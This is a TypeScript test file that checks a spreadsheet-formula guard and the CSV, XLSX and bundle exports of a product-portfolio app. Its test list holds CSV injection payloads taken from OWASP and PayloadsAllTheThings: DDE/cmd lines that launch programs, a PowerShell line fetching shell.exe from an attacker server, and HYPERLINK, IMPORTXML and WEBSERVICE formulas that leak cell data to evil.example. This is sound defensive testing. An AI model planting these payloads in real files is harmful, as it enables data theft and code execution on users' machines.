import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import * as ExcelJS from 'exceljs';
import { unzipSync } from 'fflate';
import { assembleBundleInput, createBundle, PORTFOLIO_CSV_PATH } from '../../../shared/bundle';
import { portfolioToCsv } from '../../../shared/csv';
import { productLineSchema, productSchema, type Portfolio } from '../../../shared/domain/schemas';
import { needsFormulaGuard, neutralizeFormula } from '../../../shared/text/formula';
import { xlsxBytes } from '../../../renderer/features/export/export-files';
import type { ExcelJsModule } from '../../../shared/interop';

/**
 * Payloads from the OWASP "CSV Injection" page
 * (https://owasp.org/www-community/attacks/CSV_Injection) and the CSV injection
 * list of PayloadsAllTheThings
 * (https://github.com/swisskyrepo/PayloadsAllTheThings/tree/master/CSV%20Injection),
 * plus the bypasses found in review: a line break after the formula, leading
 * whitespace and control characters.
 */
const PAYLOADS = [
  '=1+1',
  '=1+1\nx',
  '=1+1\r\nx',
  '+1+1\nx',
  '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click for further information")',
  "=cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "+SUM(1+9)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "=2+5+cmd|' /C calc'!A0",
  "=cmd|' /C powershell IEX(wget attacker_server/shell.exe)'!A0",
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  '=DDE("cmd";"/C calc";"!A0")A0',
  'DDE ("cmd";"/C calc";"!A0")A0'.replace(/^/, '='),
  '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
  '=IMPORTRANGE("https://docs.google.com/spreadsheets/d/x", "sheet!A1")',
  '=IMAGE("https://evil.example/a.png")',
  '=WEBSERVICE("http://evil.example/")',
  '@SUM(1,1)',
  '+1',
  '-1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u0000=1+1',
  '\u001b=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\uff1d1+1',
  '\uff0bSUM(1)',
  '\uff20SUM(1)',
  '%0A-1+1'.replace('%0A', '\n'),
];
const HARMLESS = ['Thermostat T1', 'a=b', 'Linux 6.6', '2026-12-31', "O'Brien", 'x\n=1+1'];

describe('neutralizeFormula', () => {
  it.each(PAYLOADS)('quotes %j', (payload) => {
    expect(needsFormulaGuard(payload)).toBe(true);
    expect(neutralizeFormula(payload)).toBe(`'${payload}`);
  });
  it.each(HARMLESS)('leaves %j alone', (text) => {
    expect(neutralizeFormula(text)).toBe(text);
  });
});

function hostilePortfolio(): Portfolio {
  const line = productLineSchema.parse({ id: 'l1', name: '=1+1\nx', environment: 'consumer', notes: '' });
  const products = PAYLOADS.filter((p) => !p.includes('\u0000')).map((payload, i) => productSchema.parse({
    id: `p${i}`, lineId: 'l1', name: `P${i}`, sku: payload.slice(0, 100), category: 'thermostat',
    components: [{ id: `c${i}`, name: 'Firmware', class: 'it', role: 'firmware', supplier: payload.slice(0, 200), version: '1' }],
  }));
  return { lines: [line], products, decisions: [] } as unknown as Portfolio;
}

/** Every cell that is not plain text starts with the quote. */
function expectAllGuarded(cells: string[]): void {
  const hostile = cells.filter((c) => c !== '' && needsFormulaGuard(c.replace(/^'/, '')));
  expect(hostile.length).toBeGreaterThan(PAYLOADS.length);
  for (const cell of hostile) expect(cell.startsWith("'"), JSON.stringify(cell)).toBe(true);
}

describe('every export a spreadsheet opens', () => {
  it('CSV', () => {
    const parsed = Papa.parse<string[]>(portfolioToCsv(hostilePortfolio()), { skipEmptyLines: true });
    expectAllGuarded(parsed.data.slice(1).flat());
    expect(parsed.data[1]![0]).toBe("'=1+1\nx");
  });

  it('XLSX', async () => {
    const bytes = await xlsxBytes(ExcelJS as unknown as ExcelJsModule, hostilePortfolio());
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(bytes as unknown as ArrayBuffer);
    const cells: string[] = [];
    wb.worksheets[0]!.eachRow((row, n) => {
      if (n === 1) return;
      row.eachCell((cell) => {
        expect(cell.formula).toBeFalsy();
        if (typeof cell.value === 'string') cells.push(cell.value);
      });
    });
    expectAllGuarded(cells);
  });

  it("the bundle's interchange CSV", async () => {
    const portfolio = hostilePortfolio();
    const input = assembleBundleInput(portfolio, { scope: { kind: 'portfolio' }, asOf: '2026-06-01', appVersion: '1.0.0', createdAt: '2026-06-01T00:00:00.000Z' });
    const files = unzipSync(await createBundle(input));
    const csv = new TextDecoder().decode(files[PORTFOLIO_CSV_PATH]!);
    expectAllGuarded(Papa.parse<string[]>(csv, { skipEmptyLines: true }).data.slice(1).flat());
  });
});
